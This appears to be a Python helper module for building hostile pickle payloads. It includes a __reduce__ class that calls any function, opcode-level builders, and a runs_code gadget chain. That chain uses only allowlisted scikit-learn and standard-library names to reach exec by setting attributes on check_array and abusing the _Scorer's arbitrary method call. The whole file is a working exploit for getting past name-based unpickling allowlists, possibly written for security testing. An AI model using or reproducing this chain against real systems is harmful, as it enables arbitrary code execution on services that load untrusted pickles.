"""Owns what a hostile pickle is made of: a call of any function, and programs written opcode by opcode."""

from __future__ import annotations

import pickle
import pickletools
import struct
from collections.abc import Callable
from typing import Any

END = pickle.STOP


class Calls:
    """Pickles to a call of any function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def named(full: str) -> bytes:
    """Pushes what a dotted name means; its last part is the name."""
    module, _, name = full.rpartition(".")
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def value(plain: Any) -> bytes:
    """Pushes a plain value."""
    return pickletools.optimize(pickle.dumps(plain, 3))[2:-1]


def items(*programs: bytes) -> bytes:
    """Pushes a tuple of what the programs push."""
    return pickle.MARK + b"".join(programs) + pickle.TUPLE


def mapping(**programs: bytes) -> bytes:
    """Pushes a dict of what the programs push."""
    return pickle.EMPTY_DICT + b"".join(value(key) + program + pickle.SETITEM for key, program in programs.items())


def called(function: bytes, *arguments: bytes) -> bytes:
    """Pushes the answer of a call."""
    return function + items(*arguments) + pickle.REDUCE


def made(kind: str, *arguments: bytes) -> bytes:
    """Pushes a new instance, made without its constructor."""
    return named(kind) + items(*arguments) + pickle.NEWOBJ


def built(target: bytes, state: bytes) -> bytes:
    """Pushes the target with a state set on it."""
    return target + state + pickle.BUILD


def kept(number: int, program: bytes) -> bytes:
    """The program, whose value ``again`` pushes once more."""
    return program + pickle.LONG_BINPUT + struct.pack("<I", number)


def again(number: int) -> bytes:
    """Pushes what was kept under this number."""
    return pickle.LONG_BINGET + struct.pack("<I", number)


def program(*parts: bytes) -> bytes:
    """A whole pickle; what all parts but the last push is thrown away."""
    return pickle.PROTO + b"\x03" + pickle.POP.join(parts) + END


def attributes(**programs: bytes) -> bytes:
    """A state that is set attribute by attribute, which also writes to classes."""
    return items(value(None), mapping(**programs))


CHECK_ARRAY = "sklearn.utils.validation.check_array"
SCORER = "sklearn.metrics._scorer._Scorer"
PASSING = "sklearn.metrics._scorer._PassthroughScorer"


def _asks(method: str, argument: bytes) -> bytes:
    """A scorer that is called: ``dict(check_array.METHOD(ARGUMENT))``."""
    scorer = built(
        made(SCORER),
        mapping(
            _score_func=named("collections.defaultdict"),
            _sign=made(PASSING),
            _kwargs=value({}),
            _response_method=value(method),
        ),
    )
    return called(scorer, named(CHECK_ARRAY), argument, value(None))


def runs_code(code: str) -> bytes:
    """A pickle of allowlisted names alone, by which an unpickler that only looks at names runs ``code``.

    Attributes are set on a class and on a function; then scikit-learn's scorer, which calls any method of what it is
    given, fetches the function's globals, their builtins, and ``exec``.
    """
    tags = called(named("functools.partial"), named("sklearn.utils._bunch.Bunch"))
    tags = built(
        tags, items(named("sklearn.utils._bunch.Bunch"), value(()), value({"estimator_type": "regressor"}), value(None))
    )
    return program(
        built(named(PASSING), attributes(__mul__=named("builtins.dict"), __gt__=named("builtins.bool"))),
        built(named(CHECK_ARRAY), attributes(__sklearn_tags__=tags)),
        built(named(CHECK_ARRAY), _asks("__getattribute__", value("__globals__"))),
        built(named(CHECK_ARRAY), _asks("__getattribute__", value("__builtins__"))),
        _asks("exec", value(code)),
    )
